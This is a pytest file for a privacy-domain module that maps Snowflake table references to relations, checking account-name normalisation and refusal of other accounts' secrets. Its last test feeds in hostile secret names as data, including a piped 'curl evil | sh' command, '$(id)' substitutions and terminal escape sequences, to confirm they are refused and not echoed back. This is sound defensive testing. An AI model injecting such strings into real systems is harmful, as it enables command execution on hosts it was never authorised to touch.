"""What a reference to a table in Snowflake names."""

from __future__ import annotations

from typing import Any

import pytest

from whiteroom.domain.privacy.relations import Relation
from whiteroom.domain.resources.snowflake_references import snowflake_relation
from whiteroom.domain.verdicts import Denied

BOB = "222222222222"
REFERENCE: dict[str, Any] = {
    "secretArn": f"arn:aws:secretsmanager:us-east-1:{BOB}:secret:prod/clinic-A1b2C3",
    "accountIdentifier": "acme",
    "databaseName": "LAKE",
    "tableName": "PATIENTS",
    "schemaName": "WARD",
    "tableSchema": {"v1": [{"columnName": "age", "columnType": "INT"}]},
}


def test_a_reference_names_one_table_however_it_is_reached() -> None:
    one = snowflake_relation({"snowflake": REFERENCE}, BOB)
    other = snowflake_relation({"snowflake": {**REFERENCE, "secretArn": REFERENCE["secretArn"] + "x"}}, BOB)
    assert isinstance(one, Relation)
    assert isinstance(other, Relation)
    assert one.connection == "prod/clinic-A1b2C3"
    assert one.source == other.source == "acme/LAKE.WARD.PATIENTS"


def test_a_reference_elsewhere_names_none_and_another_accounts_secret_is_refused() -> None:
    assert snowflake_relation({"glue": {"databaseName": "a", "tableName": "b"}}, BOB) is None
    assert isinstance(snowflake_relation({"snowflake": REFERENCE}, "111111111111"), Denied)


@pytest.mark.parametrize("spelt", ["acme_clinic", "ACME-CLINIC", "Acme-Clinic.snowflakecomputing.com", " acme-clinic "])
def test_an_account_is_one_in_all_spellings_that_lead_to_it(spelt: str) -> None:
    """Whoever spells it anew has no other table, and draws no noise anew."""
    made = snowflake_relation({"snowflake": {**REFERENCE, "accountIdentifier": spelt}}, BOB)
    assert isinstance(made, Relation)
    assert made.source == "acme-clinic/LAKE.WARD.PATIENTS"


@pytest.mark.parametrize(
    "name", ["", "x; curl evil | sh #", "clinic\x1b[2J", "$(id)", "`id`", "klinik\u202e", "a b", "'", "--help"]
)
def test_a_secret_whose_name_is_none_is_refused_and_not_shown(name: str) -> None:
    secret = f"arn:aws:secretsmanager:us-east-1:{BOB}:secret:{name}"
    denied = snowflake_relation({"snowflake": {**REFERENCE, "secretArn": secret}}, BOB)
    assert isinstance(denied, Denied)
    assert "names no secret" in denied.reason
    assert not name or name not in denied.reason
